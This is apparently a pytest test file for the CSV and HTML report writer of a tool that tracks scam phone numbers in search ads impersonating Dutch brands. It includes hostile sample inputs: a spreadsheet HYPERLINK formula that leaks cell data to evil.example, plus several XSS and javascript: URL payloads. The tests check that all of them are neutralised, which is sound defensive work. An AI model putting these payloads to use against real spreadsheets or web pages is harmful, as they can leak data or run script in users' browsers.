from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from reports.csv_report import neutralise
from reports.html_report import file_href, safe_url, write_reports

T1 = "2024-05-01T02:00:00Z"


def finding(**kw: Any) -> dict[str, Any]:
    f: dict[str, Any] = {
        "brand": "KPN", "e164": "+319001234567", "number_type": "premium_rate", "raw": "0900-1234567",
        "verdict": "scam", "reason": "premium-rate number the brand does not publish", "severity": "high",
        "engine": "google", "query": "KPN klantenservice", "device": "desktop", "kind": "ad",
        "placement": "top", "rank": 1, "title": "KPN Klantenservice", "display_url": "kpn-hulp.nl › bellen",
        "landing_url": "https://kpn-hulp.nl/", "click_url": "https://www.googleadservices.com/pagead/aclk?x=1",
        "domain": "kpn-hulp.nl", "text": "Bel direct", "captured_at": T1, "html_path": "",
        "screenshot_path": "", "evidence_path": "", "platform": "google_ads",
    }  # fmt: skip
    f.update(kw)
    return f


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+31900", "'+31900"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
     ("  =cmd", "'  =cmd"), ("\t=1", "'\t=1"), ("\rx", "'\rx"), ("Bel 0900", "Bel 0900"), (None, ""),
     (3, "3")],
)  # fmt: skip
def test_neutralise(value: Any, expected: str) -> None:
    assert neutralise(value) == expected


def test_csv_formula_injection_neutralised(tmp_path: Path) -> None:
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"Klik hier")'
    write_reports([finding(title=evil, text="@SUM(1)")], tmp_path)
    (row,) = read_csv(tmp_path / "findings.csv")
    assert row["title"] == "'" + evil and row["text"] == "'@SUM(1)"
    (row,) = read_csv(tmp_path / "google_ads.csv")
    assert row["ad_title"] == "'" + evil and row["ad_text"] == "'@SUM(1)"
    assert row["phone_as_shown"] == "0900-1234567"


def test_platform_split(tmp_path: Path) -> None:
    findings = [
        finding(),
        finding(engine="bing", platform="microsoft_advertising", domain="kpn-support.nl"),
        finding(engine="duckduckgo", platform="microsoft_advertising", domain="kpn-bellen.nl"),
        finding(kind="organic", platform="", domain="startpagina.nl", verdict="suspect", severity="medium"),
    ]
    paths = write_reports(findings, tmp_path)
    assert [p.name for p in paths] == ["findings.csv", "google_ads.csv", "microsoft_advertising.csv",
                                       "report.html"]  # fmt: skip
    assert len(read_csv(tmp_path / "findings.csv")) == 4
    assert [r["advertiser_domain"] for r in read_csv(tmp_path / "google_ads.csv")] == ["kpn-hulp.nl"]
    ms = read_csv(tmp_path / "microsoft_advertising.csv")
    assert sorted((r["engine"], r["advertiser_domain"]) for r in ms) == [
        ("bing", "kpn-support.nl"),
        ("duckduckgo", "kpn-bellen.nl"),
    ]
    assert set(ms[0]) >= {"advertiser_domain", "display_url", "landing_url", "ad_title", "ad_text",
                          "phone_as_shown", "phone_e164", "number_type", "why", "engine", "query", "device",
                          "captured_at_utc", "evidence_file", "evidence_sha256"}  # fmt: skip


def test_platform_csv_names_best_evidence(tmp_path: Path) -> None:
    write_reports([finding(evidence_path="ev/r1.png", evidence_sha256="ab" * 32, html_path="ev/p.html")],
                  tmp_path)  # fmt: skip
    (row,) = read_csv(tmp_path / "google_ads.csv")
    assert (row["evidence_file"], row["evidence_sha256"]) == ("ev/r1.png", "ab" * 32)
    assert row["page_html_file"] == "ev/p.html"


def test_empty_platform_files_have_a_header(tmp_path: Path) -> None:
    write_reports([], tmp_path)
    assert (tmp_path / "google_ads.csv").read_text().startswith("advertiser_domain,")
    assert "No findings." in (tmp_path / "report.html").read_text()


def test_html_escapes_attacker_text(tmp_path: Path) -> None:
    write_reports([finding(text="<script>alert('x')</script>", title='"><img src=x onerror=alert(1)>')],
                  tmp_path)  # fmt: skip
    html = (tmp_path / "report.html").read_text()
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_javascript_landing_url_is_not_a_link(tmp_path: Path) -> None:
    write_reports(
        [
            finding(landing_url="javascript:alert(document.cookie)"),
            finding(e164="+31201234567", landing_url="https://kpn-hulp.nl/bel?a=1&b=2"),
        ],
        tmp_path,
    )
    html = (tmp_path / "report.html").read_text()
    assert 'href="javascript:' not in html.lower()
    assert "javascript:alert(document.cookie)" in html  # shown as text
    assert 'href="https://kpn-hulp.nl/bel?a=1&amp;b=2"' in html
    assert "googleadservices" in html and 'href="https://www.googleadservices' not in html  # never linked


def test_safe_url() -> None:
    assert safe_url("https://x.nl/a") == "https://x.nl/a"
    for bad in (
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "data:text/html,x",
        "//x.nl",
        "x.nl",
        None,
        'https://x.nl/"onmouseover=alert(1)',
    ):
        assert safe_url(bad) is None


def test_html_groups_by_brand_and_lists_blocked_captures(tmp_path: Path) -> None:
    ev = tmp_path / "evidence" / "cap 1.png"
    findings = [
        finding(brand="Odido", verdict="suspect", severity="medium", evidence_path=str(ev)),
        finding(brand="KPN"),
    ]
    blocked = [
        {
            "brand": "ING",
            "engine": "google",
            "query": "ING klantenservice",
            "device": "mobile",
            "status": "captcha",
            "captured_at": T1,
            "html_path": str(tmp_path / "evidence" / "c.html"),
        }
    ]
    run = {
        "id": "abc123",
        "command": "nightly",
        "status": "ok",
        "started_at": T1,
        "finished_at": T1,
        "summary": {"captures": 3},
    }
    write_reports(findings, tmp_path / "out", run=run, blocked=blocked)
    html = (tmp_path / "out" / "report.html").read_text()
    assert html.index(">KPN <") < html.index(">Odido <")
    assert 'class="badge badge-scam"' in html and 'class="badge badge-suspect"' in html
    assert "NOT audited" in html and "captcha" in html and "ING klantenservice" in html
    assert 'href="../evidence/cap%201.png"' in html
    # the captured page is linked as its sanitised copy, never the raw file (its scripts would run)
    assert 'href="../evidence/c.safe.html"' in html and 'href="../evidence/c.html"' not in html
    assert "abc123" in html


def test_file_href_relative_to_report(tmp_path: Path) -> None:
    assert file_href("caps/a.png", tmp_path / "out", tmp_path) == "../caps/a.png"
    assert file_href(tmp_path / "out" / "x.png", tmp_path / "out") == "x.png"
    assert file_href("", tmp_path) is None


def test_output_is_deterministic(tmp_path: Path) -> None:
    findings = [finding(brand=b, e164=e, engine=g) for b in ("Odido", "KPN") for e in ("+312", "+311")
                for g in ("bing", "google")]  # fmt: skip
    write_reports(findings, tmp_path / "a")
    write_reports(list(reversed(findings)), tmp_path / "b")
    for name in ("findings.csv", "google_ads.csv", "microsoft_advertising.csv", "report.html"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()
    rows = read_csv(tmp_path / "a" / "findings.csv")
    assert [(r["brand"], r["e164"], r["engine"]) for r in rows][:2] == [
        ("KPN", "'+311", "bing"),
        ("KPN", "'+311", "google"),
    ]
